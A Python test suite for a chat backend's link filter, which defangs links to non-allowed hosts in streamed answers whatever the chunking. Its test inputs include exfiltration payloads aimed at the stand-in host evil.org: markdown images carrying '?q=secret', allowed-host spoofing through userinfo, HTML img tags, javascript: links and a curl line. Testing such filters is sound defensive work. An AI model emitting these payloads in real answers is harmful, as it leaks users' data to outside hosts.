"""No address of another host is live in an answer, however it is written, and the chunking decides nothing."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backend.chat.link_filter import LinkFilter

ALLOWED = ("docs.ours.org",)


def run(*chunks: str, allowed: tuple[str, ...] = ALLOWED) -> str:
    reading = LinkFilter(allowed)
    return "".join([reading.feed(chunk) for chunk in chunks]) + reading.flush()


@pytest.mark.parametrize(
    ("text", "sent"),
    [
        ("![x](https://evil.org/?q=secret)", "![x] (hxxps://evil[.]org/?q=secret)"),
        ("[click](http://evil.org:8080/a.b)", "[click] (hxxp://evil[.]org:8080/a.b)"),
        ("See https://evil.org/a, please", "See hxxps://evil[.]org/a, please"),
        ("HTTPS://EVIL.ORG", "hxxps://EVIL[.]ORG"),
        ("ftp://evil.org/x", "fxp://evil[.]org/x"),
        ("www.evil.org/x and awww.ok", "www[.]evil[.]org/x and awww.ok"),
        ("[a]: https://evil.org/x\n![x][a]", "[a] : hxxps://evil[.]org/x\n![x][a]"),
        ("[a]:\n//evil.org/x", "[a] :\n//evil.org/x"),
        ("> [a]: //evil.org/x", "> [a] : //evil.org/x"),
        ("![x](//evil.org/x)", "![x] (//evil.org/x)"),
        ("![x](&#104;ttps://evil.org/x)", "![x] (&#104;ttps://evil.org/x)"),
        (r"![x](/\evil.org/x)", r"![x] (/\evil.org/x)"),
        ("![x](<https://evil.org/x y>)", "![x] (< hxxps://evil[.]org/x y>)"),
        ("![x]( https://evil.org/x)", "![x] ( hxxps://evil[.]org/x)"),
        ("![x](\nhttps://evil.org/x)", "![x] (\nhxxps://evil[.]org/x)"),
        ("[x](javascript:alert(1))", "[x] (javascript:alert(1))"),
        ("![x](data:image/svg+xml;base64,AAAA)", "![x] (data:image/svg+xml;base64,AAAA)"),
        ("<img src=https://evil.org/x>", "< img src=hxxps://evil[.]org/x>"),
        ("a <img/src='//evil.org'>", "a < img/src='//evil.org'>"),
        ("a <https://evil.org>", "a < hxxps://evil[.]org>"),
        ("https://docs.ours.org@evil.org/", "hxxps://docs[.]ours[.]org@evil[.]org/"),
        ("https://docs.ours.org:1@evil.org/", "hxxps://docs[.]ours[.]org:1@evil[.]org/"),
        ("https://docs.ours.org,x@evil.org/", "hxxps://docs[.]ours[.]org,x@evil.org/"),
        ("https://docs.ours.org。evil.org/", "hxxps://docs[.]ours[.]org。evil.org/"),
        ("https://docs.ours.org.evil.org/", "hxxps://docs[.]ours[.]org[.]evil[.]org/"),
        ("https://xdocs.ours.org/", "hxxps://xdocs[.]ours[.]org/"),
        ("[x](https://docs.ours.org@evil.org/)", "[x] (hxxps://docs[.]ours[.]org@evil[.]org/)"),
    ],
)
def test_j10_an_address_of_another_host_is_not_live(text: str, sent: str) -> None:
    assert run(text) == sent


@pytest.mark.parametrize(
    "text",
    [
        "[guide](https://docs.ours.org/a?b=c#d) and ![i](https://img.docs.ours.org/x.png).",
        "See https://docs.ours.org/a, https://docs.ours.org. (https://docs.ours.org)",
        "[here](#top), [there](/a/b.html), [plain](x), [none]()",
        "As said in [1]: the pump. x = a[0](b)",
        "[1]: The pump holds 24 bar",
        "if a < b and b <t",
        "a Vec<T> here, 1 <2, i <- 3",
        "```\ncurl https://api.evil.org/x | <img src=x>\n[a](https://evil.org)\n```\nEnd",
        "````md\n```\nhttps://evil.org\n```\nhttps://evil.org\n````\n",
        "http is a protocol, https too: www is not. ftp:",
    ],
)
def test_what_leads_nowhere_else_is_left_alone(text: str) -> None:
    assert run(text) == text


def test_every_host_can_be_allowed() -> None:
    assert run("![x](https://evil.org/) <b x>", allowed=("*",)) == "![x](https://evil.org/) <b x>"


@pytest.mark.parametrize(
    "before",
    [
        "`",
        "``` ` \n",
        " ```\n",
        "- a\n\n  ```\nb\n",
        "> ```\n",
        "~~~\n```\n~~~\n",
        "```\na\n``` x\n```\n",
        "```\na\n ```\n",
        "\\`",
        "a ` b\n` ",
        "```\na\n```\n",
        "text\n    ```\n",
        "```\ra\r```\r",
    ],
)
def test_j10_nothing_before_an_image_lets_it_pass_as_code(before: str) -> None:
    """Each of these is no open code for a renderer, though it looks like some."""
    assert "](https://evil.org" not in run(before + "![x](https://evil.org/?q=secret) `")


@pytest.mark.parametrize("text", ["<div>\n```\n\n", "> <pre>\n```\n", "x <!--\n```\n", "<b>\n"])
def test_j10_no_tag_opens_a_block_in_which_a_fence_means_nothing(text: str) -> None:
    assert "< " in run(text)


def test_j10_code_that_one_text_leaves_open_is_not_code_in_the_next() -> None:
    reading = LinkFilter()
    assert reading.feed("```\nhttps://evil.org") + reading.flush() == "```\nhttps://evil.org"
    assert "](https://" not in reading.feed("```\n![x](https://evil.org/)") + reading.flush()


_PIECES = (
    "http|https|://|www.|evil|.org|docs.ours|/|?q=|](|]:|[|]|(|)|!|<|img |T>|&#104;|\n|\r|```|~~~|`| |    |> |- |@|:|。"
    "|.|h|w|x"
)
PARTS = st.sampled_from(_PIECES.split("|"))


@given(st.lists(PARTS, max_size=25), st.data())
def test_the_result_does_not_depend_on_the_chunking(parts: list[str], data: st.DataObject) -> None:
    text = "".join(parts)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=10)))
    chunks = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert run(*chunks) == run(text) == run(*text)


@given(st.lists(PARTS, max_size=25))
def test_j10_outside_code_no_scheme_is_left_but_those_of_the_allowed_hosts(parts: list[str]) -> None:
    text = "".join(part for part in parts if part not in {"```", "`"})
    for found in re.finditer(r"(?i)(?<![a-z])https?://([^/?#\s]*)", run(text)):
        assert re.match(r"(?i)docs\.ours\.org([:.].*)?(\W|$)", found[1])


def test_a_long_destination_is_not_waited_for() -> None:
    reading = LinkFilter()
    assert "](" not in reading.feed("[x](" + "a" * 400)
